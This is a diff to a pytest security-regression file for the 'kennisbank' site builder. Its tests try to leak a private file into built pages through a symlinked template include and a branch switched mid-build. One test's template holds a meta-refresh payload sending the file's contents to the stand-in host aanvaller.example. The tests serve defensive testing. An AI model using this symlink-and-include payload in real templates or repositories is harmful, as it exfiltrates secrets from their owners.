@@ -14,24 +14,29 @@ from __future__ import annotations
 
 import hashlib
 import os
+import subprocess
+import sys
 import time
 import urllib.request
 from pathlib import Path
 
 import pytest
 
+from kennisbank.site import thema
 from server_support import free_port
 
 # The CLI runner and the freshly initialised project of the fourth round.
 from test_attack_round4 import _cli, project  # noqa: F401, F811 (a fixture)
-from test_attack_round13 import _serve_until
+from test_attack_round13 import _concepts, _serve_until
 from test_hostile_git import run_git
 
 # Every case starts `kennisbank serve` or a real build and takes over 5 s.
 pytestmark = [pytest.mark.server, pytest.mark.slow]
 
 SECRET = "GEHEIM-77aa"
-MAIN = '{% extends "base.html" %}\n'
+# A reviewed template: the theme's own main.html (it keeps the CSP first in <head>).
+MAIN = (Path(thema.__file__).parent / "main.html").read_text(encoding="utf-8")
+BASE = '{% extends "base.html" %}\n'
 
 
 def _reviewed_overrides(project: Path, tmp_path: Path) -> None:  # noqa: F811
@@ -88,7 +93,7 @@ def test_r15_1_a_template_arriving_in_the_zensical_preview_is_not_rendered(
     overrides = project / "overrides"
     (overrides / "sleutel.txt").symlink_to(os.path.relpath(secret, overrides))
     (overrides / "main.html").write_text(
-        MAIN + '{% block extrahead %}<meta http-equiv="refresh" content="0;url=https://'
+        BASE + '{% block extrahead %}<meta http-equiv="refresh" content="0;url=https://'
         'aanvaller.example/?k={% filter urlencode %}{% include "sleutel.txt" %}'
         '{% endfilter %}">{% endblock %}\n', encoding="utf-8")
     run_git(project, "add", "-A")
@@ -112,3 +117,65 @@ def test_r15_1_a_template_arriving_in_the_zensical_preview_is_not_rendered(
     said = _serve_until(project, tmp_path, "zensical", (b"No issues found",), switch,
                         leaked, 1, port=port)
     assert not leaked.exists(), f"een bestand buiten het project in een pagina:\n{said[-2000:]}"
+
+
+# -- R15-2 (medium): `kennisbank build --engine zensical` renders a template that arrived
+# after its check, and publishes a file outside the project --------------------------------
+# R14-2's fix lets the engine read only the configuration its check saw, and R13-3's plugin
+# (`site.reviewedcode.Reviewed`) compares every template with the record as MkDocs reads it;
+# but under Zensical nothing compares a template of overrides/ as the engine reads it.
+# `build` checks (overrides/ included), generates (seconds in a real project), and only then
+# does Zensical load its templates from the project's overrides/, following a link in an
+# `{% include %}`. A branch switched during the build brings a main.html that includes
+# `sleutel.txt -> <a private file>` as text after the page's CSP (so `_verify`, which looks
+# at the CSP and scripts, passes it) and the file's text is in every page of the new site/,
+# ready to be published, although `check` refuses that branch (ongekeurde-code). Medium,
+# like R14-2: the person building must switch branches during the build themselves.
+
+@pytest.mark.parametrize("engine", [
+    "mkdocs",  # held: site.reviewedcode.Reviewed compares the template as MkDocs reads it
+    pytest.param("zensical", marks=pytest.mark.xfail(
+        strict=True, reason="R15-2: Zensical's build reads templates from overrides/ as they "
+        "are when it renders, not as check saw them"))])
+def test_r15_2_a_template_arriving_during_a_build_is_not_rendered(
+        project: Path, tmp_path: Path, engine: str) -> None:  # noqa: F811
+    secret = tmp_path / "geheim"
+    secret.write_text(f"{SECRET}\n", encoding="utf-8")
+    _concepts(project / "begrippen", 800)
+    _reviewed_overrides(project, tmp_path)
+    run_git(project, "checkout", "-q", "-b", "pull-request")
+    overrides = project / "overrides"
+    (overrides / "sleutel.txt").symlink_to(os.path.relpath(secret, overrides))
+    (overrides / "main.html").write_text(
+        MAIN + '{% block content %}<!-- {% include "sleutel.txt" %} -->{{ super() }}'
+        '{% endblock %}\n', encoding="utf-8")
+    run_git(project, "add", "-A")
+    run_git(project, "commit", "-q", "-m", "een bijdrage")
+    check = _cli("check", "--root", str(project), cwd=tmp_path)
+    assert check.returncode == 1 and "ongekeurde-code" in check.stdout, check.stdout
+    run_git(project, "checkout", "-q", "main")
+    process = subprocess.Popen(  # noqa: S603 (our own CLI)
+        [sys.executable, "-m", "kennisbank", "build", "--root", str(project), "--engine",
+         engine], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
+        env={**os.environ, "NO_COLOR": "1"}, start_new_session=True)
+    said = b""
+    try:
+        assert process.stdout is not None
+        for line in process.stdout:  # the check is done: the generation runs
+            said += line
+            if line.startswith(b"controle"):
+                run_git(project, "checkout", "-q", "pull-request")
+                break
+        said += process.stdout.read()
+        process.wait(timeout=300)
+    finally:
+        if process.poll() is None:
+            os.killpg(process.pid, 9)
+            process.wait(timeout=20)
+    assert b"controle" in said and (overrides / "sleutel.txt").is_symlink(), said.decode()
+    if engine == "mkdocs":  # refused as read, site/ left as it was
+        assert b"niets ervan gelezen" in said, said.decode(errors="replace")
+    published = [path for path in (project / "site").rglob("*.html")
+                 if SECRET in path.read_text(encoding="utf-8", errors="replace")]
+    assert not published, f"een bestand buiten het project in {len(published)} pagina's " \
+        f"van de site:\n{said.decode(errors='replace')[-2000:]}"
